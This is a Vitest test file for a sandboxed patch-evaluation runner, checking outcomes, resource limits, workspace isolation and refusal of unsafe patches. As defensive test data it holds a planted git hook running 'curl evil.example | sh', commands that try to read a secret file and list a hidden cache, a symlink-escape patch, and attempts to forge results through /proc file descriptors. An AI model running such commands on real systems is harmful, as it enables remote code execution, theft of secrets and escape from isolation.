import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRunCgroup } from "./cgroup";
import { checkoutBase } from "./checkout";
import { collectTests, executeRun } from "./execute";
import { overlayProbe, settleDiscards } from "./run-workspace";
import { createNodeFixture, type NodeFixture } from "./testing/node-fixture";
import type { RunnerOptions, TRunSpec } from "./types";

let fixture: NodeFixture;
let options: RunnerOptions;
let overlayHere: boolean;

beforeAll(async () => {
  fixture = await createNodeFixture();
  options = { cacheDir: await mkdtemp(path.join(os.tmpdir(), "specpath-exec-cache-")) };
  overlayHere = (await overlayProbe(options.cacheDir)) === null;
});
afterAll(async () => {
  await rm(fixture.repoDir, { recursive: true, force: true });
  await rm(options.cacheDir, { recursive: true, force: true });
});

const spec = (overrides: Partial<TRunSpec> = {}): TRunSpec => ({
  repoUrl: fixture.repoDir,
  baseCommit: fixture.baseCommit,
  setupCommand: null,
  testCommand: fixture.testCommand,
  resultFormat: "junit",
  hiddenTestPatch: fixture.hiddenTestPatch,
  patch: null,
  historyFile: null,
  probes: fixture.probes,
  timeoutMs: 30_000,
  ...overrides,
});

describe("executeRun on the Node fixture", () => {
  it("passes the gold patch on every probe, in bwrap", async () => {
    const result = await executeRun(spec({ patch: fixture.goldPatch }), options);
    expect(result).toMatchObject({ outcome: "passed", signature: "111", sandbox: "bwrap", infrastructureReason: null });
    expect(result.tests.map((t) => t.id)).toContain("add sums two numbers");
    expect(result.report).toEqual({ format: "junit", flavor: "node" });
    expect(result.timings.testMs).toBeGreaterThan(0);
    expect(result.timings.totalMs).toBeGreaterThanOrEqual(result.timings.testMs);
  });

  it("fails the base on every probe (and the gold run left the prepared workspace untouched)", async () => {
    const result = await executeRun(spec(), options);
    expect(result).toMatchObject({ outcome: "failed", signature: "000" });
    expect(result.workspace?.created).toBe(false);
  });

  it("fails a negative on its target probe only", async () => {
    const result = await executeRun(spec({ patch: fixture.negativePatch }), options);
    expect(result).toMatchObject({ outcome: "failed", signature: "101" });
    expect(result.message).toMatch(/1 of 3 probes did not pass: clamp > returns the upper bound above the range$/);
  });

  it("reports a patch that does not apply as patch_apply_failed with git's message", async () => {
    const result = await executeRun(spec({ patch: fixture.staleContextPatch }), options);
    expect(result.outcome).toBe("patch_apply_failed");
    expect(result.message).toMatch(/patch failed: src\/math\.js:1/);
    expect(result.logs.apply).toMatch(/patch does not apply/);
    expect(result.signature).toBeNull();
  });

  it("reports hidden tests that do not apply to the base as a setup failure of the run", async () => {
    const result = await executeRun(spec({ patch: null, hiddenTestPatch: fixture.staleContextPatch }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "setup_failed" });
    expect(result.message).toMatch(/the hidden tests do not apply to the base/);
  });

  it("refuses a curator's patch that writes where the hidden tests go, naming the path", async () => {
    const own = "diff --git a/test/clamp.test.js b/test/clamp.test.js\nnew file mode 100644\n--- /dev/null\n+++ b/test/clamp.test.js\n@@ -0,0 +1 @@\n+// mine\n";
    const result = await executeRun(spec({ patch: own }), options);
    expect(result).toMatchObject({ outcome: "forbidden_content" });
    expect(result.message).toMatch(/test\/clamp\.test\.js, where the hidden tests go/);
  });

  it("refuses a patch that touches .git/", async () => {
    const hook = "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
    const result = await executeRun(spec({ patch: hook }), options);
    expect(result.outcome).toBe("patch_apply_failed");
    expect(result.message).toMatch(/refused: path \.git\/hooks\/pre-commit is inside \.git/);
  });

  it("fails closed when a probe was renamed: empty_collection, never a pass", async () => {
    const renamed = [...fixture.probes.slice(0, 2), "clamp > passes values inside the range"];
    const result = await executeRun(spec({ patch: fixture.goldPatch, probes: renamed }), options);
    expect(result).toMatchObject({ outcome: "empty_collection", signature: "110", missingProbes: ["clamp > passes values inside the range"] });
  });

  it("reports a test command that fails without writing a report as infrastructure_error", async () => {
    const result = await executeRun(spec({ testCommand: "echo 'cannot find module' >&2; exit 7" }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_missing", exitCode: 7 });
    expect(result.message).toMatch(/exited with 7 and wrote no junit report/);
    expect(result.logs.stderr).toBe("cannot find module\n");
  });

  it("reports a report that is not XML as infrastructure_error", async () => {
    const result = await executeRun(spec({ testCommand: 'echo "3 passing" > "$SPECPATH_REPORT"' }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_unparseable" });
    expect(result.message).toMatch(/not valid XML/);
  });

  it("stops a runaway test command at its timeout and kills its whole process tree", async () => {
    const marker = `runaway-${randomUUID()}`;
    const result = await executeRun(
      spec({ testCommand: `node -e "setInterval(() => {}, 1000)" ${marker} & sleep 600`, timeoutMs: 1_500 }),
      options,
    );
    expect(result.outcome).toBe("timeout");
    expect(result.timings.testMs).toBeLessThan(5_000);
    expect(processesMentioning(marker)).toEqual([]);
  });

  it("survives a memory hog: it hits its limit and the run ends as data", async ({ skip }) => {
    const probe = await createRunCgroup({ memoryBytes: 1 << 30, maxProcesses: 100 });
    await probe?.remove();
    if (!probe?.enforced.memory) skip();
    const result = await executeRun(
      spec({ testCommand: "node -e \"const a = []; for (;;) a.push(Buffer.alloc(1 << 20, 1))\"" }),
      { ...options, limits: { memoryBytes: 200 * 1024 * 1024 } },
    );
    expect(result.outcome).toBe("infrastructure_error");
    expect(result.limitsHit).toContain("memory");
    expect(result.message).toMatch(/limit reached: memory/);
  });

  it("stops a run that fills the disk: limitsHit disk, a message that says so, and the next run is unaffected", async () => {
    const fill = "head -c 12582912 /dev/zero > big.bin && head -c 12582912 /dev/zero > /tmp/big.bin && sleep 10 && " + fixture.testCommand;
    const result = await executeRun(spec({ patch: fixture.goldPatch, testCommand: fill }), { ...options, limits: { diskBytes: 16 * 1024 * 1024 } });
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "disk_limit", limitsHit: ["disk"], signature: null });
    expect(result.message).toBe("the run was stopped: it wrote more than 16 MiB to disk (workspace changes, output and /tmp together; limit reached: disk)");
    expect(result.timings.testMs).toBeLessThan(8_000);
    const next = await executeRun(spec({ patch: fixture.goldPatch }), options);
    expect(next).toMatchObject({ outcome: "passed", limitsHit: [] });
  });

  it("shows the test command nothing of the data folder its cache lives in, not even the mirror: git sees the base commit alone", async () => {
    const dataDir = await mkdtemp(path.join("/var/tmp", "specpath-data-"));
    try {
      mkdirSync(path.join(dataDir, "secrets"), { recursive: true });
      writeFileSync(path.join(dataDir, "secrets", "session-secret"), "s3cret");
      const probe = [
        `cat ${dataDir}/secrets/session-secret && echo READ_SECRET`,
        `ls ${dataDir} && echo LISTED_DATA`,
        `ls ${dataDir}/cache && echo LISTED_CACHE`,
        "git log --oneline -1 > /dev/null && echo GIT_OK",
        `ls ${dataDir}/cache/mirrors && echo LISTED_MIRRORS`,
        `echo "commits=$(git rev-list --all | wc -l) objects=$(git cat-file --batch-all-objects --batch-check | wc -l) remotes=$(git remote | wc -l)"`,
        fixture.testCommand,
      ].join("; ");
      const result = await executeRun(spec({ patch: fixture.goldPatch, testCommand: probe }), { cacheDir: path.join(dataDir, "cache") });
      expect(result.outcome).toBe("passed");
      expect(result.logs.stdout).not.toMatch(/READ_SECRET|LISTED_|s3cret/);
      expect(result.logs.stdout).toMatch(/GIT_OK/);
      const baseObjects = execFileSync("git", ["rev-list", "--objects", `${fixture.baseCommit}^{tree}`], { cwd: fixture.repoDir, encoding: "utf8" }).trim().split("\n").length;
      expect(result.logs.stdout).toContain(`commits=1 objects=${baseObjects + 1} remotes=0`);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it("reads TAP from stdout when the test command writes no report file", async () => {
    const result = await executeRun(spec({ patch: fixture.goldPatch, resultFormat: "tap", testCommand: "node --test --test-reporter=tap" }), options);
    expect(result).toMatchObject({ outcome: "passed", signature: "111", report: { format: "tap", flavor: "tap" } });
  });

  it("writes the history file for replay runs", async () => {
    const check = `test "$(cat docs/history.md)" = "Turn 1: add clamp" && ${fixture.testCommand}`;
    const result = await executeRun(
      spec({ patch: fixture.goldPatch, historyFile: { path: "docs/history.md", content: "Turn 1: add clamp" }, testCommand: check }),
      options,
    );
    expect(result.outcome).toBe("passed");
  });

  it("runs a runner script the test command names with its executable bit: the restore puts back the base's file, mode included", async () => {
    const repo = await mkdtemp(path.join(os.tmpdir(), "specpath-exec-script-"));
    const git = (...args: string[]) =>
      execFileSync("git", ["-c", "user.name=Fixture", "-c", "user.email=fixture@example.com", ...args], { cwd: repo, encoding: "utf8" }).trim();
    try {
      git("clone", "--quiet", fixture.repoDir, ".");
      writeFileSync(path.join(repo, "run-tests.sh"), `#!/bin/sh\nexec ${fixture.testCommand}\n`, { mode: 0o755 });
      git("add", "run-tests.sh");
      git("commit", "--quiet", "-m", "a runner script");
      const result = await executeRun(spec({ repoUrl: repo, baseCommit: git("rev-parse", "HEAD"), patch: fixture.goldPatch, testCommand: "./run-tests.sh" }), options);
      expect(result, result.message).toMatchObject({ outcome: "passed", signature: "111" });
    } finally {
      await rm(repo, { recursive: true, force: true });
    }
  });

  it("never writes the history file through a symlink a patch planted: the recipe clears the way to it first", async () => {
    const elsewhere = await mkdtemp(path.join(os.tmpdir(), "specpath-elsewhere-"));
    const symlink = `diff --git a/docs b/docs\nnew file mode 120000\n--- /dev/null\n+++ b/docs\n@@ -0,0 +1 @@\n+${elsewhere}\n\\ No newline at end of file\n`;
    try {
      const check = `test -d docs && test ! -L docs && test "$(cat docs/history.md)" = "Turn 1" && ${fixture.testCommand}`;
      const result = await executeRun(spec({ patch: symlink, historyFile: { path: "docs/history.md", content: "Turn 1" }, testCommand: check }), options);
      expect(result).toMatchObject({ outcome: "failed" });
      expect(readdirSync(elsewhere)).toEqual([]);
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });

  it("does not follow a report that is a symlink (to /dev/zero, to a host file)", async () => {
    const result = await executeRun(spec({ testCommand: 'ln -s /dev/zero "$SPECPATH_REPORT"' }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_unparseable" });
    expect(result.message).toMatch(/not a regular file/);
  });

  it("prepares once for N runs, even when they start together", async () => {
    const counting = spec({
      setupCommand: "echo prepared >> .setup-marker",
      testCommand: `printf 'setups=%s\\n' "$(wc -l < .setup-marker)" >&2; ${fixture.testCommand}`,
      patch: fixture.goldPatch,
    });
    const concurrent = await Promise.all([executeRun(counting, options), executeRun(counting, options)]);
    const sequential = [await executeRun(counting, options), await executeRun(counting, options)];
    const all = [...concurrent, ...sequential];
    expect(all.map((r) => r.outcome)).toEqual(["passed", "passed", "passed", "passed"]);
    expect(all.filter((r) => r.workspace?.created)).toHaveLength(1);
    expect(new Set(all.map((r) => r.workspace?.key)).size).toBe(1);
    for (const r of all) expect(r.logs.stderr).toMatch(/^setups=1$/m);
    expect(all[0]?.logs.setup).toMatch(/\$ echo prepared >> \.setup-marker/);
  }, 30_000); // four runs and a setup: over the 5 s default on a loaded machine

  it("lays an overlay on a small prepared workspace and on a larger one (a copy only where the overlay probe fails), with the same outcome", async () => {
    const small = await executeRun(spec({ patch: fixture.goldPatch }), options);
    expect(small).toMatchObject({ outcome: "passed", signature: "111", workspace: { layer: overlayHere ? "overlay" : "copy" } });
    const large = await executeRun(spec({ patch: fixture.goldPatch, setupCommand: "mkdir -p node_modules/pkg && for i in $(seq 300); do echo \"module.exports = $i;\" > node_modules/pkg/f$i.js; done" }), options);
    expect(large).toMatchObject({ outcome: "passed", signature: "111", workspace: { layer: overlayHere ? "overlay" : "copy" } });
  });

  it("gives every run its own overlay: nothing a run does reaches the prepared workspace or the next run", async () => {
    const vandal = [
      "echo broken > src/math.js",
      "rm test/add.test.js",
      "mv test tests",
      "echo '[core]' >> .git/config",
      "mkdir -p node_modules/x && echo junk > node_modules/x/index.js",
      fixture.testCommand,
    ].join(" && ");
    const vandalized = await executeRun(spec({ patch: fixture.goldPatch, testCommand: vandal }), { ...options, workspaceLayer: "overlay" });
    expect(vandalized.workspace?.layer).toBe(overlayHere ? "overlay" : "copy");
    const repoDir = path.join(options.cacheDir, "workspaces", vandalized.workspace?.key ?? "", "repo");
    expect(readFileSync(path.join(repoDir, "src/math.js"), "utf8")).toMatch(/export function add/);
    expect(readdirSync(path.join(repoDir, "test")).sort()).toEqual(["add.test.js"]); // hidden tests are written per run, never into the prepared tree
    expect(existsSync(path.join(repoDir, "node_modules"))).toBe(false);
    const next = await executeRun(spec({ patch: fixture.goldPatch }), options);
    expect(next).toMatchObject({ outcome: "passed", signature: "111" });
    expect(next.tests.map((t) => t.id)).toContain("add sums two numbers");
  });

  it("keeps git's view of an overlay workspace valid: git status neither re-reads nor rewrites the index", async ({ skip }) => {
    if (!overlayHere) skip();
    const check = `before=$(stat -c '%y %i' .git/index); git status --porcelain >&2; test "$(stat -c '%y %i' .git/index)" = "$before" && ${fixture.testCommand}`;
    const result = await executeRun(spec({ patch: fixture.goldPatch, testCommand: check }), { ...options, workspaceLayer: "overlay" });
    expect(result.outcome).toBe("passed");
    expect(result.logs.stderr).toBe(" M src/math.js\n?? test/clamp.test.js\n");
  });

  it("falls back to a copy of the prepared workspace when asked, with the same outcomes", async () => {
    const copied = { ...options, workspaceLayer: "copy" as const };
    expect(await executeRun(spec({ patch: fixture.goldPatch }), copied)).toMatchObject({ outcome: "passed", signature: "111", workspace: { layer: "copy" } });
    expect(await executeRun(spec({ patch: fixture.negativePatch }), copied)).toMatchObject({ outcome: "failed", signature: "101" });
    expect(await executeRun(spec({ patch: fixture.staleContextPatch }), copied)).toMatchObject({ outcome: "patch_apply_failed" });
  });

  it("does not let a test command pass itself off as a refused patch or history file", async () => {
    const forge = "printf 'apply-failed\\nforged' >&3; printf 'history-refused\\nforged' > /proc/1/fd/3; printf 'apply-failed\\nforged' > /proc/$PPID/fd/3; exit 3";
    const result = await executeRun(spec({ patch: fixture.goldPatch, historyFile: { path: "HISTORY.md", content: "x" }, testCommand: forge }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_missing", exitCode: 3 });
    expect(result.logs.apply).toBe("");
  });

  it("cleans up the run workspaces", async () => {
    expect(readdirSync(path.join(options.cacheDir, "runs"))).toEqual([]);
    await settleDiscards();
    expect(readdirSync(path.join(options.cacheDir, "trash"))).toEqual([]);
  });

  it("rejects an invalid spec as data, naming the field", async () => {
    const result = await executeRun(spec({ probes: [], historyFile: { path: ".git/config", content: "" } }), options);
    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "invalid_spec" });
    expect(result.message).toMatch(/probes: must list at least one probe/);
    expect(result.message).toMatch(/historyFile\.path: must be a relative path/);
  });

  it("reports a repository that is gone and a commit that does not exist", async () => {
    const gone = await executeRun(spec({ repoUrl: path.join(os.tmpdir(), `missing-${randomUUID()}`) }), options);
    expect(gone).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "not_a_repository" });
    const noCommit = await executeRun(spec({ baseCommit: "0123456789abcdef0123456789abcdef01234567" }), options);
    expect(noCommit).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "commit_not_found" });
  });

  it("runs without a sandbox when asked, and says so", async () => {
    const result = await executeRun(spec({ patch: fixture.goldPatch }), { ...options, sandbox: "none" });
    expect(result).toMatchObject({ outcome: "passed", sandbox: "none" });
    expect(result.warnings.join("\n")).toMatch(/^unsandboxed: /m);
  });
});

describe("collectTests", () => {
  it("lists every executed test with its outcome on the base", async () => {
    const { patch: _p, historyFile: _h, probes: _q, ...collectSpec } = spec();
    const result = await collectTests(collectSpec, options);
    expect(result.outcome).toBe("collected");
    expect(result.tests).toEqual(
      expect.arrayContaining([
        { id: "add sums two numbers", outcome: "pass", count: 1 },
        // A failing test keeps why it failed: the report's message and its full text.
        ...fixture.probes.map((id) => ({ id, outcome: "fail", count: 1, message: expect.stringMatching(/clamp is not a function/), detail: expect.any(String) })),
      ]),
    );
  });
});

describe("checkoutBase", () => {
  it("checks out the base commit and says how many files it has", async () => {
    const result = await checkoutBase(fixture.repoDir, fixture.baseCommit.slice(0, 10), options);
    expect(result).toMatchObject({ outcome: "ok", commit: fixture.baseCommit, fileCount: 3 });
  });

  it("names what is wrong with the repository or the commit", async () => {
    expect(await checkoutBase(os.tmpdir(), fixture.baseCommit, options)).toMatchObject({ outcome: "not_a_repository" });
    expect(await checkoutBase(fixture.repoDir, "deadbeef", options)).toMatchObject({ outcome: "commit_not_found" });
  });
});

function processesMentioning(marker: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
      if (cmdline.includes(marker) && Number(pid) !== process.pid) found.push(`${pid}: ${cmdline}`);
    } catch {
      // exited meanwhile
    }
  }
  return found;
}
